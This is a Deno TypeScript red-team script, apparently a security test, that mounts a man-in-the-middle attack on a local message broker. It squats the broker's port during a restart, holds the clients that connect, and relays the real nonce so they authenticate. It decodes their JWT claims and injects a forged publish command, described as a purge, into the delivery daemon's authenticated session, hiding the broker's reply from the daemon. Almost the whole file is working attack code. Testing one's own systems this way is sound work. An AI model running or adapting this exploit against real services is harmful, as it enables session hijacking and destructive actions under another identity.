// Red team 33 (--net host): waits for the broker's port to come free, listens on it and holds
// every client that dials (sending nothing), then lets the port go so the watchdog's broker can
// bind it again, dials that real broker for each held client and hands the client the REAL
// broker's INFO (its nonce). The client signs that nonce and the proxy carries its CONNECT up:
// if the broker answers PONG, the agent sits inside a daemon's authenticated session.
// Usage: deno run -A mitm.ts <port> <out dir> <hold ms>
const [portS, out, holdS] = Deno.args;
const port = Number(portS);
const hold = Number(holdS ?? "1500");
// What to publish inside the delivery daemon's session once it is authenticated (a purge of DM).
const inject = Deno.args[3];
const log = async (l: string) =>
  await Deno.writeTextFile(`${out}/mitm.log`, `${new Date().toISOString()} ${l}\n`, {
    append: true,
  });
await log("started");
let listener: Deno.Listener | undefined;
let refusedOnce = false;
while (!listener) {
  try {
    listener = Deno.listen({ hostname: "127.0.0.1", port });
  } catch (err) {
    // Said once, so a test can tell a refused bind from an attack that never ran.
    if (!refusedOnce) await log(`bind refused: ${(err as Error).name}: ${(err as Error).message}`);
    refusedOnce = true;
    await new Promise((r) => setTimeout(r, 5));
  }
}
await log("squatted");
const held: Deno.Conn[] = [];
const accepting = (async () => {
  try {
    for await (const c of listener!) held.push(c);
  } catch { /* closed */ }
})();
const t0 = Date.now();
while (Date.now() - t0 < hold || held.length === 0) await new Promise((r) => setTimeout(r, 50));
listener.close();
await accepting;
await log(`released with ${held.length} held`);
const dec = new TextDecoder();
const enc = new TextEncoder();
async function readLine(c: Deno.Conn): Promise<{ line: string; rest: Uint8Array }> {
  let acc = new Uint8Array(0);
  const buf = new Uint8Array(65536);
  for (;;) {
    const n = await c.read(buf);
    if (n === null) throw new Error("eof");
    const m = new Uint8Array(acc.length + n);
    m.set(acc);
    m.set(buf.subarray(0, n), acc.length);
    acc = m;
    const i = acc.indexOf(10);
    if (i >= 0) return { line: dec.decode(acc.subarray(0, i + 1)), rest: acc.subarray(i + 1) };
  }
}
async function relay(client: Deno.Conn, k: number) {
  let up: Deno.Conn | undefined;
  const end = Date.now() + 60_000;
  while (!up && Date.now() < end) {
    try {
      up = await Deno.connect({ hostname: "127.0.0.1", port });
    } catch {
      await new Promise((r) => setTimeout(r, 20));
    }
  }
  if (!up) return await log(`#${k} no upstream`);
  const info = await readLine(up);
  await client.write(enc.encode(info.line));
  const first = await readLine(client); // CONNECT {...}
  let who = "?";
  try {
    const o = JSON.parse(first.line.replace(/^CONNECT\s+/i, ""));
    const jwt = String(o.jwt ?? "");
    const claims = JSON.parse(atob(jwt.split(".")[1].replace(/-/g, "+").replace(/_/g, "/")));
    who = `${claims.name} sub=${claims.sub} signed=${typeof o.sig === "string"}`;
  } catch (e) {
    who = `unparsed ${String(e)} ${first.line.slice(0, 120)}`;
  }
  await up.write(enc.encode(first.line));
  if (first.rest.length) await up.write(first.rest);
  if (inject && who.startsWith("delivery ")) {
    // Written between whole protocol messages: the client's CONNECT and PING are up, nothing
    // else of it is forwarded yet. The broker reads it as the delivery daemon's.
    await up.write(enc.encode(`PUB ${inject} 0\r\n\r\n`));
    await log(`#${k} injected PUB ${inject} as ${who}`);
  }
  // Watch the broker's first answers: PONG after the CONNECT means authenticated.
  let verdict = "";
  const upToClient = (async () => {
    const buf = new Uint8Array(65536);
    for (;;) {
      const n = await up!.read(buf).catch(() => null);
      if (n === null) break;
      const text = dec.decode(buf.subarray(0, n));
      const mine = /MSG _RT33\.purge 9999 \d+\r\n([^\r]*)/.exec(text);
      if (mine) {
        await log(`#${k} broker answered the injected request: ${mine[1]}`);
        continue; // the daemon never sees the answer
      }
      if (verdict.length < 200) {
        verdict += dec.decode(buf.subarray(0, n));
        if (/PONG|-ERR/.test(verdict)) {
          const v = /-ERR[^\r\n]*/.exec(verdict)?.[0] ?? "PONG (authenticated)";
          await log(`#${k} ${who} -> ${v}`);
          verdict = "x".repeat(300);
        }
      }
      await client.write(buf.subarray(0, n)).catch(() => {});
    }
    client.close();
  })();
  const buf = new Uint8Array(65536);
  for (;;) {
    const n = await client.read(buf).catch(() => null);
    if (n === null) break;
    await up.write(buf.subarray(0, n)).catch(() => {});
  }
  try {
    up.close();
  } catch { /* */ }
  await upToClient;
}
await Promise.all(held.map((c, k) => relay(c, k).catch((e) => log(`#${k} ${e}`))));
